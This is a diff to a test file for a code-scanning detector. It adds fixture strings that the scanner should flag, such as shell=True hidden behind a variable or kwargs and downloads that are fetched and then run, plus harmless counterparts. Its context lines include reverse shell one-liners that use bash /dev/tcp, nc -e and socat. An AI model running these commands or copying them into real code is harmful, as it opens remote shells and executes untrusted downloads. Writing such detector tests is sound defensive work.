@@ -9,6 +9,7 @@ from tests.checks.patterns.test_pattern_files import look
 
 NAME, DECODED, RUN = "python-hidden-name", "python-decoded-code", "python-exec"
 VALUE, LIST = "python-runner-value", "python-shell-list"
+FLAG, SH_SAVED = "python-shell-flag", "shell-remote-script"
 JS_VALUE, SH_DECODED, SH_REVERSE = "js-eval-value", "shell-decoded-script", "shell-reverse-shell"
 
 DISGUISED = {
@@ -35,6 +36,8 @@ DISGUISED = {
         ("HANDLERS = {'run': os.popen}", VALUE),
         ("subprocess.run(['/bin/bash', '-c', 'ls ' + x])", LIST),
         ("subprocess.run(['/usr/bin/env', 'sh', '-ec', 'ls {}'.format(x)])", LIST),
+        ("S = True\ndef f(x):\n    subprocess.run('ls ' + x, shell=S)", FLAG),
+        ("subprocess.check_output(f'ls {x}', **{'shell': True})", FLAG),
     ],
     "a.js": [
         ("const run = eval;", JS_VALUE),
@@ -51,6 +54,13 @@ DISGUISED = {
         ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", SH_REVERSE),
         ("nc -e /bin/sh 192.0.2.1 4444", SH_REVERSE),
         ("socat TCP:192.0.2.1:4444 EXEC:/bin/bash", SH_REVERSE),
+        ("curl -so /tmp/x https://example.com/x\nsh /tmp/x", SH_SAVED),
+        ('curl https://example.com/x -o "$D/x.sh" && bash -e "$D/x.sh"', SH_SAVED),
+        (
+            "if a; then\n wget \\\n -O x.py https://example.com/x\n sudo python3 ./x.py\nfi",
+            SH_SAVED,
+        ),
+        ("curl -o x http://example.com/x; . ./x", "shell-plain-http-script"),
     ],
 }
 HARMLESS = {
@@ -70,6 +80,9 @@ HARMLESS = {
         "subprocess.run(['sh', '-c', 'ls | wc'])",
         "subprocess.run(['sh', '-c', 'ls ' + shlex.quote(x)])",
         "subprocess.run(['bash', '-c', command])",
+        "S = False\nsubprocess.run(x, shell=S)",
+        "S = True\nsubprocess.run('ls | wc', shell=S)",
+        "subprocess.run(x, **{'text': True})",
     ],
     "b.js": [
         "const kind = typeof eval;",
@@ -82,6 +95,9 @@ HARMLESS = {
         "timeout 1 bash -c 'echo > /dev/tcp/localhost/5432'",
         "nc -z localhost 5432",
         'sh -c "base64 file"',
+        'curl -so x https://example.com/x\necho "$SUM  x" | sha256sum -c\nsh x',
+        "curl -so x.tgz https://example.com/x.tgz\ntar xf x.tgz\nsh build.sh",
+        "# curl -so x https://example.com/x\nsh x",
     ],
 }
 
